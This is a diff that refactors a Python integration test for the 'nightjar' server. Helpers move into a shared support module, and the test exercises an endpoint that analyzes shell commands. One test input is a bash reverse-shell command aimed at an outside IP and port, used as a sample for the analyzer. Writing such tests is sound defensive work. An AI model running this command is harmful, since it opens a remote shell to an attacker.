@@ -8,71 +8,33 @@ Nothing here waits a fixed time: every wait polls a condition under a
 generous deadline (the machine may be busy), and counters of /metrics are
 compared before and after.
 """
-import http.client
 import json
 import os
 import shutil
-import socket
-import subprocess
 import sys
 import tempfile
-import time
 
-BIN = os.environ.get("NJ_BIN", "build/nightjar")
-MODEL_DIR = os.environ.get("NIGHTJAR_TEST_MODEL_DIR", os.path.expanduser("~/.cache/nightjar/models"))
-MODEL = os.path.join(MODEL_DIR, "SmolLM2-135M-Instruct.Q4_1.gguf")
-SLOW = "asan" in BIN or "tsan" in BIN
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
+import njtest  # noqa: E402
+from njtest import BIN, MODEL, SLOW, check, finish, skip  # noqa: E402
+
 START_DEADLINE = 240 if SLOW else 120
 # Bounds a hung server, not a slow one: under make check on a machine at
 # load 25 a batch of four model-path events took more than 900 s (the
 # server runs at nice 10), so sanitizer builds get an hour.
 REQ_TIMEOUT = 3600 if SLOW else 900
 
-passed = failed = skipped = 0
-
-
-def check(name, cond, detail=""):
-    global passed, failed
-    if cond:
-        passed += 1
-        print(f"ok   {name}")
-    else:
-        failed += 1
-        print(f"FAIL {name}" + (f": {detail}" if detail else ""))
-    return cond
-
-
-def finish():
-    print(f"{passed} passed, {failed} failed" + (f" ({skipped} skipped)" if skipped else ""))
-    sys.exit(1 if failed else 0)
-
-
-def free_port():
-    s = socket.socket()
-    s.bind(("127.0.0.1", 0))
-    p = s.getsockname()[1]
-    s.close()
-    return p
-
 
 def curl(sock, path, body=None):
-    cmd = ["curl", "-s", "--max-time", str(REQ_TIMEOUT), "--unix-socket", sock, "-w", "\n%{http_code}"]
-    if body is not None:
-        cmd += ["-H", "Content-Type: application/json", "--data-binary", "@-"]
-    cmd.append("http://nj" + path)
-    r = subprocess.run(cmd, input=(body if isinstance(body, str) else json.dumps(body)) if body is not None else None,
-                       capture_output=True, text=True)
-    out, _, code = r.stdout.rpartition("\n")
-    return int(code or 0), out
+    """curl over the Unix socket: GET, or POST with a JSON body; (status, text)."""
+    code, out, _, _ = njtest.curl(sock, "POST" if body is not None else "GET", path, body, timeout=REQ_TIMEOUT)
+    return code, out.decode("utf-8", "replace")
 
 
 def tcp(port, path, body):
-    c = http.client.HTTPConnection("127.0.0.1", port, timeout=REQ_TIMEOUT)
-    c.request("POST", path, body=json.dumps(body), headers={"Content-Type": "application/json"})
-    r = c.getresponse()
-    data = r.read().decode()
-    c.close()
-    return r.status, data
+    """POST a JSON body with http.client over loopback TCP; (status, text)."""
+    code, _, out, _ = njtest.request(port, "POST", path, body, timeout=REQ_TIMEOUT)
+    return code, out.decode()
 
 
 def event(i, cmd, **kw):
@@ -90,35 +52,25 @@ def contract(v):
 
 
 def metric(sock, name):
-    code, text = curl(sock, "/metrics")
-    for line in text.splitlines():
-        if line.startswith(name + " "):
-            return float(line.split()[1])
-    return None
+    return njtest.metric(curl(sock, "/metrics")[1], name)
 
 
 def main():
-    global skipped
     if not os.path.exists(MODEL):
-        skipped += 1
-        print(f"skip analyze service tests (no model at {MODEL})")
+        skip("analyze service tests", f"no model at {MODEL}")
         finish()
     tmp = tempfile.mkdtemp(prefix="nj-analyze-")
     sock = os.path.join(tmp, "nj.sock")
-    port = free_port()
+    port = njtest.free_port()
     cfg = os.path.join(tmp, "config")
     with open(cfg, "w") as f:
         f.write("analyze_batch = 4\nctx_size = 2048\n")
-    log = open(os.path.join(tmp, "serve.log"), "w")
-    srv = subprocess.Popen([BIN, "serve", "-m", MODEL, "--socket", sock, "--port", str(port), "--config", cfg],
-                           stdout=log, stderr=log)
+    srv = njtest.Server([BIN, "serve", "-m", MODEL, "--socket", sock, "--port", str(port), "--config", cfg],
+                        os.path.join(tmp, "serve.log"), sock=sock)
     try:
-        deadline = time.monotonic() + START_DEADLINE
-        while curl(sock, "/health")[0] != 200:
-            if srv.poll() is not None or time.monotonic() > deadline:
-                check("server starts", False, open(os.path.join(tmp, "serve.log")).read()[-2000:])
-                finish()
-            time.sleep(0.05)
+        if not srv.wait_ready(START_DEADLINE):
+            check("server starts", False, srv.logtext()[-2000:])
+            finish()
 
         # one event: the verdict itself
         code, out = curl(sock, "/v1/analyze", event(1, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"))
@@ -197,11 +149,7 @@ def main():
                 "type": "object", "patternProperties": {"^a": {"type": "string"}}}}}})
         check("response_format: an unsupported keyword is a 400 naming it", code == 400 and "patternProperties" in out, out)
     finally:
-        srv.terminate()
-        try:
-            srv.wait(120)
-        except subprocess.TimeoutExpired:
-            srv.kill()
+        srv.stop(timeout=120)
         shutil.rmtree(tmp, ignore_errors=True)
     finish()
 
